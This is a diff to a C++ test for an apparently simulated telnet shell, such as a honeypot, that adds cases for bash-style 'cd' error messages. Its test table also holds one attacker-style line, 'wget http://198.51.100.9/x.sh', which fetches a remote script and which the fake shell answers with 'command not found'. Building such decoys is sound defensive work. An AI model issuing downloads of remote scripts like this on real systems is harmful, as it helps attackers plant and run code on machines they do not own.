@@ -332,6 +332,9 @@ TEST(TelnetDialogue, ShellCommandsAreCapturedAndAnsweredFromTheWorld) {
         {"cd /srv/ftp", ftp},
         {"pwd", "/srv/ftp\r\n" + ftp},
         {"cd /nope", "-bash: cd: /nope: No such file or directory\r\n" + ftp},
+        {"cd config.ini", "-bash: cd: config.ini: Not a directory\r\n" + ftp},
+        // bash names the directory cd was given: `~` already expanded.
+        {"cd ~/nope", "-bash: cd: /root/nope: No such file or directory\r\n" + ftp},
         {"cd", home},
         {"wget http://198.51.100.9/x.sh", "-bash: wget: command not found\r\n" + home},
     };
